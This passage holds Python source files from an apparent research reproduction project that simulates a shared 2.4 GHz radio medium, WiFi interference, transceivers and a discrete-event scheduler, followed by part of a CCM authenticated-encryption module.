                self._schedule_delivery(radio, tx)
        return tx

    def _delivery_candidates(self, tx: Transmission) -> Iterable["Transceiver"]:
        """Radios to consider delivering *tx* to, in attach order.

        The dense medium scans everything; the sharded medium narrows the
        scan through its (cell, channel) interest sets.  Implementations
        must preserve attach order so the scheduler's event sequence — and
        therefore every downstream tie-break — is identical across them.
        """
        return self._radios

    def _index_transmission(self, tx: Transmission) -> None:
        """Hook: a transmission entered the superposition list."""

    def _trace_delivery(
        self, radio: "Transceiver", tx: Transmission, status: str
    ) -> None:
        if self.trace.active:
            self.trace.emit(
                MEDIUM_DELIVERY,
                time=self.scheduler.now,
                status=status,
                rx=radio.name,
                tx=getattr(tx.source, "name", "?"),
                tx_id=tx.identifier,
            )

    def _in_band(self, radio: "Transceiver", center_frequency: float) -> bool:
        limit = radio.bandwidth_hz / 2.0 + self.DELIVERY_MARGIN_HZ
        return abs(radio.tuned_hz - center_frequency) <= limit

    def _within_range(self, tx: Transmission, radio: "Transceiver") -> bool:
        if self.range_cutoff_m is None:
            return True
        return math.dist(tx.origin, radio.position) <= self.range_cutoff_m

    def _schedule_delivery(self, radio: "Transceiver", tx: Transmission) -> None:
        def deliver() -> None:
            # Re-check state at delivery time: the radio may have re-tuned,
            # stopped listening, or moved out of range while the frame was
            # in flight.
            if (
                not radio.is_listening
                or not self._in_band(radio, tx.signal.center_frequency)
                or not self._within_range(tx, radio)
            ):
                self.metrics.counter("medium.deliveries.skipped").inc()
                self._trace_delivery(radio, tx, "skipped")
                return
            start = tx.start_time - self.capture_margin_s
            end = tx.end_time + self.capture_margin_s
            capture = self.compose_capture(radio, start, end)
            raw = capture.samples
            if self.fault_injector is not None:
                capture = self.fault_injector.transform_capture(
                    radio, capture, start
                )
            self.metrics.counter("medium.deliveries.delivered").inc()
            self._trace_delivery(radio, tx, "delivered")
            try:
                radio.handle_capture(capture, tx)
            finally:
                # The transceiver filters into a fresh array, so the raw
                # composition buffer can be recycled (pool-backed media).
                self._release_capture_buffer(raw)

        self.scheduler.schedule_at(tx.end_time, deliver)

    # -- capture composition ----------------------------------------------------
    def compose_capture(
        self, radio: "Transceiver", start_time: float, end_time: float
    ) -> IQSignal:
        """Superpose everything a receiver hears in a time window."""
        num = max(1, int(round((end_time - start_time) * self.sample_rate)))
        total = self._acquire_capture_buffer(num)
        rng = self._rx_stream(radio)
        for tx in self._compose_candidates(radio, start_time, end_time):
            if tx.end_time <= start_time or tx.start_time >= end_time:
                continue
            if tx.source is radio:
                continue
            if not self._in_band(radio, tx.signal.center_frequency):
                continue
            if not self._within_range(tx, radio):
                continue
            gain_db = tx.power_dbm + self.propagation.path_gain_db(
                tx.origin, radio.position, rng=rng
            )
            amplitude = 10.0 ** (gain_db / 20.0)
            mixed = self._mixed_samples(tx, radio.tuned_hz)
            offset = int(round((tx.start_time - start_time) * self.sample_rate))
            self._add_at(total, mixed, offset, scale=amplitude)
        for interferer in self.interferers:
            burst = interferer.contribution(
                rx_center_hz=radio.tuned_hz,
                rx_bandwidth_hz=radio.bandwidth_hz,
                num_samples=num,
                sample_rate=self.sample_rate,
                rng=rng,
            )
            total += burst.samples
        noise_power = 10.0 ** (
            (self.noise_floor_dbm + radio.noise_figure_db) / 10.0
        )
        scale = np.sqrt(noise_power / 2.0)
        if self._noise_re.size < num:
            self._noise_re = np.empty(num)
            self._noise_im = np.empty(num)
        re, im = self._noise_re[:num], self._noise_im[:num]
        # Same generator stream (and therefore bit-identical captures) as
        # drawing two fresh arrays — ``out=`` only skips the allocations.
        rng.standard_normal(out=re)
        rng.standard_normal(out=im)
        total.real += scale * re
        total.imag += scale * im
        return IQSignal(total, self.sample_rate, radio.tuned_hz)

    def _compose_candidates(
        self, radio: "Transceiver", start_time: float, end_time: float
    ) -> Iterable[Transmission]:
        """Transmissions to consider mixing, in identifier order.

        Identifier order fixes the floating-point summation order, which is
        part of the byte-identity contract between implementations.
        """
        return self._transmissions

    def _acquire_capture_buffer(self, num: int) -> np.ndarray:
        """A zeroed complex buffer of *num* samples (pool hook)."""
        return np.zeros(num, dtype=np.complex128)

    def _release_capture_buffer(self, samples: np.ndarray) -> None:
        """Return a composition buffer after its delivery completed."""

    def _mixed_samples(self, tx: Transmission, tuned_hz: float) -> np.ndarray:
        """*tx*'s samples mixed to a receiver tuning, memoised per pairing.

        The cached array is shared between deliveries; callers must treat
        it as read-only (``_add_at`` only reads it).
        """
        key = (tx.identifier, tuned_hz)
        samples = self._mixed_cache.get(key)
        if samples is None:
            samples = tx.signal.mixed_to(tuned_hz).samples
            self._mixed_cache[key] = samples
        return samples

    @staticmethod
    def _add_at(
        buffer: np.ndarray,
        samples: np.ndarray,
        offset: int,
        scale: float = 1.0,
    ) -> None:
        if offset >= buffer.size or offset + samples.size <= 0:
            return
        src_start = max(0, -offset)
        dst_start = max(0, offset)
        length = min(samples.size - src_start, buffer.size - dst_start)
        if length > 0:
            buffer[dst_start : dst_start + length] += scale * samples[
                src_start : src_start + length
            ]

    def _prune(self, before: float) -> None:
        kept = [tx for tx in self._transmissions if tx.end_time >= before]
        if len(kept) != len(self._transmissions):
            live = {tx.identifier for tx in kept}
            self._mixed_cache = {
                key: val
                for key, val in self._mixed_cache.items()
                if key[0] in live
            }
            self._prune_index(live)
        self._transmissions = kept

    def _prune_index(self, live: set) -> None:
        """Hook: transmissions outside *live* left the superposition list."""

    # -- introspection ---------------------------------------------------------
    @property
    def active_transmissions(self) -> List[Transmission]:
        now = self.scheduler.now
        return [
            tx
            for tx in self._transmissions
            if tx.start_time <= now <= tx.end_time
        ]

    def channel_busy(self, radio: "Transceiver") -> bool:
        """Clear-channel assessment for *radio*'s current tuning.

        True when any in-flight transmission from another source overlaps
        the radio's receive band (within the range cutoff, when one is
        configured) — the energy-detect CCA that backs the MAC's unslotted
        CSMA-CA.
        """
        for tx in self.active_transmissions:
            if tx.source is radio:
                continue
            if not self._in_band(radio, tx.signal.center_frequency):
                continue
            if not self._within_range(tx, radio):
                continue
            return True
        return False
