"""Interference sources sharing the 2.4 GHz ISM band.

The paper's testbed ran next to live WiFi networks on channels 6 and 11,
which shows up in Table III as a few lost/corrupted frames on the Zigbee
channels whose frequencies those WiFi channels cover (16–18 and 21–23).
:class:`WifiInterferer` reproduces that mechanism: a bursty wideband noise
source with an OFDM-like flat spectral mask, contributing power into a
receiver's passband proportionally to the spectral overlap.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.dsp.signal import IQSignal

__all__ = ["WifiInterferer", "wifi_channel_frequency_hz", "WIFI_BANDWIDTH_HZ"]

WIFI_BANDWIDTH_HZ = 22e6
_MHZ = 1e6


def wifi_channel_frequency_hz(channel: int) -> float:
    """Centre frequency of an IEEE 802.11 (2.4 GHz) channel, 1–13."""
    if not 1 <= channel <= 13:
        raise ValueError(f"invalid WiFi channel {channel}")
    return (2412 + 5 * (channel - 1)) * _MHZ


@dataclass
class WifiInterferer:
    """A bursty wideband interferer.

    Parameters
    ----------
    channel:
        WiFi channel number (1–13).
    power_dbm:
        Burst power *as received* across the full WiFi bandwidth (the
        experiments place interferers by received level rather than
        modelling the AP's position).
    duty_cycle:
        Probability that any given capture window collides with a burst.
    inner_bandwidth_hz:
        Width of the flat part of the spectral mask; power density outside
        it (but inside the 22 MHz occupied band) is 12 dB down, roughly the
        802.11 OFDM mask shoulder.
    """

    channel: int
    power_dbm: float = -55.0
    duty_cycle: float = 0.1
    inner_bandwidth_hz: float = 16.6e6

    def __post_init__(self) -> None:
        self.center_hz = wifi_channel_frequency_hz(self.channel)
        if not 0.0 <= self.duty_cycle <= 1.0:
            raise ValueError("duty cycle must be in [0, 1]")

    def power_density_in_band(self, rf_center_hz: float, bandwidth_hz: float) -> float:
        """Linear burst power falling inside a receiver band.

        Integrates the two-level spectral mask over the receiver passband.
        Returns 0 when the bands do not overlap.
        """
        lo = rf_center_hz - bandwidth_hz / 2.0
        hi = rf_center_hz + bandwidth_hz / 2.0
        inner_lo = self.center_hz - self.inner_bandwidth_hz / 2.0
        inner_hi = self.center_hz + self.inner_bandwidth_hz / 2.0
        outer_lo = self.center_hz - WIFI_BANDWIDTH_HZ / 2.0
        outer_hi = self.center_hz + WIFI_BANDWIDTH_HZ / 2.0
        inner_overlap = max(0.0, min(hi, inner_hi) - max(lo, inner_lo))
        outer_overlap = (
            max(0.0, min(hi, outer_hi) - max(lo, outer_lo)) - inner_overlap
        )
        total_power = 10.0 ** (self.power_dbm / 10.0)
        shoulder_gain = 10.0 ** (-12.0 / 10.0)
        mask_area = self.inner_bandwidth_hz + shoulder_gain * (
            WIFI_BANDWIDTH_HZ - self.inner_bandwidth_hz
        )
        density = total_power / mask_area
        return density * (inner_overlap + shoulder_gain * outer_overlap)

    def contribution(
        self,
        rx_center_hz: float,
        rx_bandwidth_hz: float,
        num_samples: int,
        sample_rate: float,
        rng: np.random.Generator,
    ) -> IQSignal:
        """Interference samples for one capture window (possibly silence).

        A burst, when present, covers a random contiguous portion of the
        window (at least half of it) — real 802.11 frames are hundreds of
        microseconds, comparable to the Zigbee frames they collide with.
        """
        samples = np.zeros(num_samples, dtype=np.complex128)
        in_band = self.power_density_in_band(rx_center_hz, rx_bandwidth_hz)
        if in_band > 0.0 and rng.random() < self.duty_cycle:
            burst_len = int(num_samples * rng.uniform(0.5, 1.0))
            start = rng.integers(0, max(1, num_samples - burst_len + 1))
            scale = np.sqrt(in_band / 2.0)
            burst = scale * (
                rng.standard_normal(burst_len)
                + 1j * rng.standard_normal(burst_len)
            )
            samples[start : start + burst_len] = burst
        return IQSignal(samples, sample_rate, rx_center_hz)
