"""Radio transceiver front-end.

A :class:`Transceiver` is the analogue half of a chip model: it owns tuning,
transmit power, the receive channel filter, carrier-frequency error and the
half-duplex constraint.  Digital modems (GFSK, O-QPSK) live in the chip
models; the transceiver only moves :class:`IQSignal` vectors to and from the
medium.
"""

from __future__ import annotations

from typing import Callable, Optional, Tuple

import numpy as np

from repro.dsp.filters import apply_filter, fir_lowpass
from repro.dsp.signal import IQSignal
from repro.radio.medium import RfMedium, Transmission

__all__ = ["Transceiver"]

CaptureHandler = Callable[[IQSignal, Transmission], None]


class Transceiver:
    """A tunable half-duplex 2.4 GHz radio front-end.

    Parameters
    ----------
    medium:
        The shared RF medium.
    name:
        Human-readable identifier (shows up in logs and experiment output).
    position:
        (x, y) in metres; drives path loss.
    bandwidth_hz:
        Receive channel filter bandwidth (2 MHz for both BLE and 802.15.4).
    tx_power_dbm:
        Transmit power.
    cfo_std_hz:
        Standard deviation of the per-transmission carrier-frequency error —
        the main analogue quality difference between chip models (the
        nRF52832's looser crystal vs the CC1352-R1).
    noise_figure_db:
        Added to the medium's thermal floor for this receiver.
    """

    def __init__(
        self,
        medium: RfMedium,
        name: str,
        position: Tuple[float, float] = (0.0, 0.0),
        bandwidth_hz: float = 2e6,
        tx_power_dbm: float = 0.0,
        cfo_std_hz: float = 0.0,
        noise_figure_db: float = 0.0,
        rng: Optional[np.random.Generator] = None,
        rx_filter_taps: int = 49,
    ):
        self.medium = medium
        self.name = name
        self._position: Tuple[float, float] = tuple(position)
        self.bandwidth_hz = bandwidth_hz
        self.tx_power_dbm = tx_power_dbm
        self.cfo_std_hz = cfo_std_hz
        self.noise_figure_db = noise_figure_db
        # Default to a generator derived from the medium's seed (keyed by
        # name) so an experiment is reproducible end to end from one seed.
        self.rng = rng if rng is not None else medium.derive_rng(name)
        self.tuned_hz: float = 2440e6
        self._listening = False
        self._handler: Optional[CaptureHandler] = None
        self._transmit_until: float = -1.0
        self._filter = fir_lowpass(
            cutoff_hz=bandwidth_hz * 0.65,
            sample_rate=medium.sample_rate,
            num_taps=rx_filter_taps,
        )
        # Grow-only sample-index ramp for the per-transmission CFO
        # rotation; frames are near-constant length, so steady-state
        # transmits allocate no index vector.
        self._cfo_ramp = np.empty(0, dtype=np.int64)
        medium.attach(self)

    # -- tuning / state ------------------------------------------------------
    @property
    def position(self) -> Tuple[float, float]:
        """(x, y) in metres; assigning notifies the medium (cell migration)."""
        return self._position

    @position.setter
    def position(self, value: Tuple[float, float]) -> None:
        self._position = tuple(value)
        self.medium.radio_moved(self)

    def tune(self, frequency_hz: float) -> None:
        """Retune the synthesiser (applies to both TX and RX)."""
        if not 2.4e9 <= frequency_hz <= 2.5e9:
            raise ValueError(
                f"{self.name}: frequency {frequency_hz / 1e6:.1f} MHz outside "
                "the 2.4-2.5 GHz ISM band"
            )
        self.tuned_hz = frequency_hz
        self.medium.radio_retuned(self)

    @property
    def is_listening(self) -> bool:
        return self._listening and self.medium.scheduler.now >= self._transmit_until

    @property
    def is_transmitting(self) -> bool:
        """True while a transmission of ours is still on the air."""
        return self.medium.scheduler.now < self._transmit_until

    def start_rx(self, handler: CaptureHandler) -> None:
        """Enter receive mode; *handler* gets (filtered capture, transmission)."""
        self._handler = handler
        self._listening = True

    def stop_rx(self) -> None:
        self._listening = False
        self._handler = None

    # -- transmit ---------------------------------------------------------------
    def transmit(self, baseband: IQSignal) -> Transmission:
        """Transmit a baseband signal at the current tuning.

        A per-transmission carrier-frequency error (drawn from
        ``cfo_std_hz``) is applied before the signal reaches the medium —
        modelling crystal tolerance, which the *receiver* must absorb.
        """
        if baseband.sample_rate != self.medium.sample_rate:
            raise ValueError(
                f"{self.name}: baseband sample rate {baseband.sample_rate} "
                f"differs from medium rate {self.medium.sample_rate}"
            )
        cfo = float(self.rng.normal(0.0, self.cfo_std_hz)) if self.cfo_std_hz else 0.0
        if cfo == 0.0:
            samples = baseband.samples
        else:
            # Same rotation (and identical float expression, hence
            # bit-identical output) as dsp.impairments.apply_frequency_offset,
            # but with the index ramp reused across transmissions.
            if self._cfo_ramp.size < len(baseband):
                self._cfo_ramp = np.arange(len(baseband), dtype=np.int64)
            n = self._cfo_ramp[: len(baseband)]
            samples = baseband.samples * np.exp(
                2j * np.pi * cfo * n / baseband.sample_rate
            )
        on_air = IQSignal(samples, self.medium.sample_rate, self.tuned_hz)
        tx = self.medium.transmit(self, on_air, self.tx_power_dbm)
        self._transmit_until = tx.end_time
        return tx

    # -- receive -----------------------------------------------------------------
    def handle_capture(self, capture: IQSignal, tx: Transmission) -> None:
        """Called by the medium at end-of-airtime; applies channel filtering."""
        if self._handler is None:
            return
        filtered = IQSignal(
            apply_filter(self._filter, capture.samples),
            capture.sample_rate,
            capture.center_frequency,
        )
        self._handler(filtered, tx)

    def __repr__(self) -> str:
        return (
            f"Transceiver({self.name!r}, tuned={self.tuned_hz / 1e6:.1f} MHz, "
            f"listening={self.is_listening})"
        )
