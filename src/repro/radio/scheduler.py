"""Discrete-event scheduler driving the radio simulation.

A minimal priority-queue scheduler: callbacks fire in timestamp order,
ties broken by insertion order.  Node behaviours (periodic sensor reports,
scan timeouts, acknowledgement windows) are all expressed as scheduled
callbacks; the medium schedules packet deliveries at their end-of-airtime.
"""

from __future__ import annotations

import heapq
import itertools
from dataclasses import dataclass, field
from typing import Callable, List, Optional, Tuple

from repro.obs import metrics as _current_metrics

__all__ = ["Scheduler", "EventHandle"]


@dataclass
class EventHandle:
    """Cancellation token for a scheduled event."""

    time: float
    sequence: int
    cancelled: bool = False

    def cancel(self) -> None:
        self.cancelled = True


class Scheduler:
    """Priority-queue discrete-event scheduler.  Times are seconds."""

    def __init__(self) -> None:
        self.now: float = 0.0
        self._queue: List[Tuple[float, int, EventHandle, Callable[[], None]]] = []
        self._counter = itertools.count()
        # Pre-resolved counter: step() is the hottest control-flow point in
        # the simulator, so the registry lookup happens once, here.
        self._events_metric = _current_metrics().counter("scheduler.events")

    def schedule_at(self, time: float, callback: Callable[[], None]) -> EventHandle:
        """Run *callback* at absolute *time* (must not be in the past)."""
        if time < self.now:
            raise ValueError(f"cannot schedule at {time} (now is {self.now})")
        handle = EventHandle(time=time, sequence=next(self._counter))
        heapq.heappush(self._queue, (time, handle.sequence, handle, callback))
        return handle

    def schedule(self, delay: float, callback: Callable[[], None]) -> EventHandle:
        """Run *callback* after *delay* seconds."""
        if delay < 0:
            raise ValueError("delay must be non-negative")
        return self.schedule_at(self.now + delay, callback)

    def step(self) -> bool:
        """Execute the next event.  Returns False when the queue is empty."""
        while self._queue:
            time, _seq, handle, callback = heapq.heappop(self._queue)
            if handle.cancelled:
                continue
            self.now = time
            self._events_metric.inc()
            callback()
            return True
        return False

    def run_until(self, time: float, max_events: Optional[int] = None) -> int:
        """Run events with timestamps <= *time*; returns the event count.

        The clock is advanced to *time* at the end even if the queue drains
        earlier, so periodic behaviours can be re-armed consistently.
        """
        executed = 0
        while self._queue:
            # Discard cancelled events before peeking: otherwise a cancelled
            # head could satisfy the time bound while step() runs a *later*
            # event past it.
            while self._queue and self._queue[0][2].cancelled:
                heapq.heappop(self._queue)
            if not self._queue:
                break
            next_time = self._queue[0][0]
            if next_time > time:
                break
            if not self.step():
                break
            executed += 1
            if max_events is not None and executed >= max_events:
                return executed
        self.now = max(self.now, time)
        return executed

    def run(self, duration: float, max_events: Optional[int] = None) -> int:
        """Run for *duration* simulated seconds from now."""
        return self.run_until(self.now + duration, max_events=max_events)

    @property
    def pending_events(self) -> int:
        return sum(1 for _, _, handle, _ in self._queue if not handle.cancelled)
