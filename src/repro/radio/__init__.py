"""Simulated RF environment.

This package substitutes for the paper's over-the-air testbed (§V): a
discrete-event scheduler, a shared 2.4 GHz medium with log-distance path
loss and a thermal noise floor, WiFi-like interferers (the paper's channels
6 and 11), and a transceiver front-end with tuning, channel filtering,
per-transmission carrier-frequency error and transmit power.

All randomness flows through explicit ``numpy.random.Generator`` instances
so experiments are reproducible from seeds.
"""

from repro.radio.scheduler import Scheduler
from repro.radio.medium import RfMedium, Transmission, PropagationModel
from repro.radio.interference import WifiInterferer, wifi_channel_frequency_hz
from repro.radio.shard import BufferPool, CellGrid, ShardedRfMedium
from repro.radio.transceiver import Transceiver

__all__ = [
    "Scheduler",
    "RfMedium",
    "Transmission",
    "PropagationModel",
    "WifiInterferer",
    "wifi_channel_frequency_hz",
    "BufferPool",
    "CellGrid",
    "ShardedRfMedium",
    "Transceiver",
]
