"""Spatially partitioned, interest-managed RF medium.

:class:`ShardedRfMedium` implements exactly the semantics of a dense
:class:`~repro.radio.medium.RfMedium` with a finite ``range_cutoff_m``, but
replaces its O(radios) delivery scan and O(transmissions) composition scan
with interest sets maintained on a 2D cell grid:

* every attached radio lives in one grid cell (cell edge = range cutoff),
  sub-indexed by the 1 MHz bucket of its tuning, so a transmission only
  visits the co-channel radios of the 3x3 cell neighbourhood around its
  origin;
* every in-flight transmission is indexed by its *origin* cell, so a
  receiver's capture composes against the 3x3 neighbourhood around its
  current position instead of the whole superposition list;
* capture composition buffers come from a shared :class:`BufferPool`
  (generalising the grow-only noise scratch of the dense medium) and are
  recycled as soon as the receiving chip has filtered them.

Equivalence contract: for identical seeds and workloads, a sharded medium
and a dense medium with the same ``range_cutoff_m`` produce byte-identical
captures and an identical scheduler event sequence.  The grid only narrows
*candidate* enumeration; the exact listening/in-band/in-range predicates,
the attach-order delivery scan, and the identifier-order float summation
are inherited unchanged from the dense implementation.  The differential
harness in ``tests/radio/test_shard_differential.py`` holds this contract
to the letter.
"""

from __future__ import annotations

import math
from typing import TYPE_CHECKING, Dict, Iterable, List, Optional, Sequence, Set, Tuple

import numpy as np

from repro.radio.medium import RfMedium, Transmission

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.radio.transceiver import Transceiver

__all__ = ["BufferPool", "CellGrid", "ShardedRfMedium"]

Cell = Tuple[int, int]

#: Width of one tuning interest bucket.  1 MHz is fine-grained enough that a
#: Zigbee channel plan (5 MHz spacing) lands adjacent PANs in disjoint
#: bucket ranges, and coarse enough that the bucket arithmetic stays integer.
BUCKET_HZ = 1e6


class BufferPool:
    """Recycled complex128 capture buffers, bucketed by exact length.

    ``acquire`` returns a zero-filled array indistinguishable from a fresh
    ``np.zeros`` — zeroing on acquire (not release) keeps the release path
    free and makes double-release merely wasteful rather than corrupting.
    Each length class keeps at most ``max_per_class`` free buffers so a
    burst of unusual capture sizes cannot pin memory forever.
    """

    def __init__(self, max_per_class: int = 8):
        self.max_per_class = max_per_class
        self._free: Dict[int, List[np.ndarray]] = {}
        self.hits = 0
        self.misses = 0

    def acquire(self, num: int) -> np.ndarray:
        free = self._free.get(num)
        if free:
            self.hits += 1
            buf = free.pop()
            buf.fill(0)
            return buf
        self.misses += 1
        return np.zeros(num, dtype=np.complex128)

    def release(self, buf: np.ndarray) -> None:
        if buf.dtype != np.complex128 or buf.ndim != 1 or buf.base is not None:
            return  # only whole, owned buffers are poolable
        free = self._free.setdefault(buf.size, [])
        if len(free) < self.max_per_class:
            free.append(buf)

    @property
    def pooled(self) -> int:
        return sum(len(free) for free in self._free.values())


class CellGrid:
    """A sparse 2D grid of square cells keyed by ``floor(coord / size)``.

    With cell edge >= interaction range, everything within range of a point
    lies inside the 3x3 block of cells around the point's own cell — the
    single geometric fact the sharded medium rests on.
    """

    def __init__(self, cell_size_m: float):
        if cell_size_m <= 0.0:
            raise ValueError("cell_size_m must be positive")
        self.cell_size_m = cell_size_m

    def cell_of(self, position: Tuple[float, float]) -> Cell:
        return (
            int(math.floor(position[0] / self.cell_size_m)),
            int(math.floor(position[1] / self.cell_size_m)),
        )

    def neighborhood(self, cell: Cell) -> Iterable[Cell]:
        cx, cy = cell
        for dx in (-1, 0, 1):
            for dy in (-1, 0, 1):
                yield (cx + dx, cy + dy)


def _bucket_of(tuned_hz: float) -> int:
    return int(tuned_hz // BUCKET_HZ)


class ShardedRfMedium(RfMedium):
    """Interest-managed medium for fleet-scale topologies.

    Requires a finite ``range_cutoff_m`` (the interaction radius doubles as
    the grid cell size).  See the module docstring for the equivalence
    contract with the dense reference implementation.
    """

    def __init__(self, *args, **kwargs):
        if kwargs.get("range_cutoff_m") is None:
            raise ValueError(
                "ShardedRfMedium requires a finite range_cutoff_m; "
                "use RfMedium for an unbounded medium"
            )
        super().__init__(*args, **kwargs)
        self.grid = CellGrid(self.range_cutoff_m)
        self.buffer_pool = BufferPool()
        # radio -> (cell, bucket) as currently indexed; radio -> global
        # attach sequence number (the delivery-scan order contract).
        self._radio_index: Dict["Transceiver", Tuple[Cell, int]] = {}
        self._attach_seq: Dict["Transceiver", int] = {}
        self._next_seq = 0
        # (cell, bucket) -> radios; origin cell -> in-flight transmissions.
        self._cell_radios: Dict[Tuple[Cell, int], Set["Transceiver"]] = {}
        self._cell_txs: Dict[Cell, List[Transmission]] = {}
        # Widest in-band acceptance window over attached radios, in whole
        # buckets; bounds the bucket span a transmission must query.
        self._max_limit_hz = 0.0

    # -- radio index --------------------------------------------------------
    def attach(self, radio: "Transceiver") -> None:
        super().attach(radio)
        if radio not in self._attach_seq:
            self._attach_seq[radio] = self._next_seq
            self._next_seq += 1
        self._max_limit_hz = max(
            self._max_limit_hz,
            radio.bandwidth_hz / 2.0 + self.DELIVERY_MARGIN_HZ,
        )
        self._index_radio(radio)

    def detach(self, radio: "Transceiver") -> None:
        super().detach(radio)
        self._unindex_radio(radio)

    def radio_moved(self, radio: "Transceiver") -> None:
        self._reindex_radio(radio)

    def radio_retuned(self, radio: "Transceiver") -> None:
        self._reindex_radio(radio)

    def _index_radio(self, radio: "Transceiver") -> None:
        key = (self.grid.cell_of(radio.position), _bucket_of(radio.tuned_hz))
        self._radio_index[radio] = key
        self._cell_radios.setdefault(key, set()).add(radio)

    def _unindex_radio(self, radio: "Transceiver") -> None:
        key = self._radio_index.pop(radio, None)
        if key is not None:
            members = self._cell_radios.get(key)
            if members is not None:
                members.discard(radio)
                if not members:
                    del self._cell_radios[key]

    def _reindex_radio(self, radio: "Transceiver") -> None:
        old = self._radio_index.get(radio)
        if old is None:
            return  # not attached yet (mid-construction) or detached
        new = (self.grid.cell_of(radio.position), _bucket_of(radio.tuned_hz))
        if new == old:
            return
        self._unindex_radio(radio)
        self._radio_index[radio] = new
        self._cell_radios.setdefault(new, set()).add(radio)

    # -- interest queries ---------------------------------------------------
    def _delivery_candidates(self, tx: Transmission) -> Sequence["Transceiver"]:
        center = tx.signal.center_frequency
        lo = int((center - self._max_limit_hz) // BUCKET_HZ)
        hi = int((center + self._max_limit_hz) // BUCKET_HZ)
        found: List["Transceiver"] = []
        for cell in self.grid.neighborhood(self.grid.cell_of(tx.origin)):
            for bucket in range(lo, hi + 1):
                members = self._cell_radios.get((cell, bucket))
                if members:
                    found.extend(members)
        # Attach order — the same order the dense medium scans in, so the
        # scheduler's delivery event sequence is identical.
        found.sort(key=self._attach_seq.__getitem__)
        return found

    def _index_transmission(self, tx: Transmission) -> None:
        cell = self.grid.cell_of(tx.origin)
        self._cell_txs.setdefault(cell, []).append(tx)

    def _prune_index(self, live: set) -> None:
        kept: Dict[Cell, List[Transmission]] = {}
        for cell, txs in self._cell_txs.items():
            remaining = [tx for tx in txs if tx.identifier in live]
            if remaining:
                kept[cell] = remaining
        self._cell_txs = kept

    def _compose_candidates(
        self, radio: "Transceiver", start_time: float, end_time: float
    ) -> Sequence[Transmission]:
        found: List[Transmission] = []
        for cell in self.grid.neighborhood(self.grid.cell_of(radio.position)):
            found.extend(self._cell_txs.get(cell, ()))
        # Identifier order fixes the float summation order (see the dense
        # medium's _compose_candidates contract).
        found.sort(key=lambda tx: tx.identifier)
        return found

    def channel_busy(self, radio: "Transceiver") -> bool:
        now = self.scheduler.now
        for tx in self._compose_candidates(radio, now, now):
            if not tx.start_time <= now <= tx.end_time:
                continue
            if tx.source is radio:
                continue
            if not self._in_band(radio, tx.signal.center_frequency):
                continue
            if not self._within_range(tx, radio):
                continue
            return True
        return False

    # -- buffer pool --------------------------------------------------------
    def _acquire_capture_buffer(self, num: int) -> np.ndarray:
        return self.buffer_pool.acquire(num)

    def _release_capture_buffer(self, samples: np.ndarray) -> None:
        self.buffer_pool.release(samples)
