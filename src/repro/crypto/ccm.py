"""CCM / CCM* authenticated encryption (RFC 3610, IEEE 802.15.4 Annex B).

CCM combines CTR-mode encryption with a CBC-MAC over the (length-framed)
associated data and message.  CCM* — the 802.15.4 variant — additionally
allows a zero-length MIC (encryption-only) and MIC-only operation; both are
expressed here through the ``mic_length`` / ``encrypt`` parameters.

Parameters follow RFC 3610 terminology: ``M`` = MIC length, ``L`` = length
field size.  802.15.4 uses L = 2 and a 13-byte nonce.
"""

from __future__ import annotations

from typing import Tuple

from repro.crypto.aes import Aes128

__all__ = ["CcmError", "ccm_encrypt", "ccm_decrypt"]

_BLOCK = 16
_LENGTH_SIZE = 2  # L = 2 (802.15.4 and the RFC 3610 test vectors)
NONCE_SIZE = 15 - _LENGTH_SIZE


class CcmError(ValueError):
    """Authentication failure or malformed parameters."""


def _check_params(nonce: bytes, mic_length: int) -> None:
    if len(nonce) != NONCE_SIZE:
        raise CcmError(f"nonce must be {NONCE_SIZE} bytes, got {len(nonce)}")
    if mic_length not in (0, 4, 6, 8, 10, 12, 14, 16):
        raise CcmError(f"invalid MIC length {mic_length}")


def _pad(data: bytes) -> bytes:
    remainder = len(data) % _BLOCK
    return data + bytes(_BLOCK - remainder) if remainder else data


def _cbc_mac(
    cipher: Aes128, nonce: bytes, message: bytes, aad: bytes, mic_length: int
) -> bytes:
    flags = 0x40 if aad else 0x00
    flags |= ((max(mic_length, 2) - 2) // 2) << 3
    flags |= _LENGTH_SIZE - 1
    b0 = bytes([flags]) + nonce + len(message).to_bytes(_LENGTH_SIZE, "big")
    blocks = b0
    if aad:
        if len(aad) >= 0xFF00:
            raise CcmError("associated data too long for this implementation")
        blocks += _pad(len(aad).to_bytes(2, "big") + aad)
    blocks += _pad(message)
    mac = bytes(_BLOCK)
    for offset in range(0, len(blocks), _BLOCK):
        chunk = blocks[offset : offset + _BLOCK]
        mac = cipher.encrypt_block(bytes(a ^ b for a, b in zip(mac, chunk)))
    return mac[:mic_length]


def _ctr_blocks(cipher: Aes128, nonce: bytes, count: int) -> bytes:
    flags = _LENGTH_SIZE - 1
    stream = bytearray()
    for counter in range(count):
        a_i = bytes([flags]) + nonce + counter.to_bytes(_LENGTH_SIZE, "big")
        stream += cipher.encrypt_block(a_i)
    return bytes(stream)


def _ctr_crypt(cipher: Aes128, nonce: bytes, data: bytes) -> bytes:
    if not data:
        return b""
    blocks = (len(data) + _BLOCK - 1) // _BLOCK
    # Counter 0 encrypts the MIC; payload uses counters 1..n.
    stream = _ctr_blocks(cipher, nonce, blocks + 1)[_BLOCK:]
    return bytes(a ^ b for a, b in zip(data, stream))


def ccm_encrypt(
    key: bytes,
    nonce: bytes,
    plaintext: bytes,
    aad: bytes = b"",
    mic_length: int = 8,
    encrypt: bool = True,
) -> bytes:
    """Protect *plaintext*; returns ciphertext (or plaintext) || MIC.

    ``encrypt=False`` gives the CCM* MIC-only levels: the payload rides in
    clear but is still authenticated (together with *aad*).
    """
    _check_params(nonce, mic_length)
    cipher = Aes128(key)
    if encrypt:
        mic = _cbc_mac(cipher, nonce, plaintext, aad, mic_length)
        body = _ctr_crypt(cipher, nonce, plaintext)
    else:
        mic = _cbc_mac(cipher, nonce, b"", aad + plaintext, mic_length)
        body = plaintext
    if mic:
        stream0 = _ctr_blocks(cipher, nonce, 1)
        mic = bytes(a ^ b for a, b in zip(mic, stream0))
    return body + mic


def ccm_decrypt(
    key: bytes,
    nonce: bytes,
    protected: bytes,
    aad: bytes = b"",
    mic_length: int = 8,
    encrypt: bool = True,
) -> bytes:
    """Verify and unprotect; raises :class:`CcmError` on a bad MIC."""
    _check_params(nonce, mic_length)
    if len(protected) < mic_length:
        raise CcmError("message shorter than its MIC")
    cipher = Aes128(key)
    body = protected[: len(protected) - mic_length]
    received_mic = protected[len(protected) - mic_length :]
    if encrypt:
        plaintext = _ctr_crypt(cipher, nonce, body)
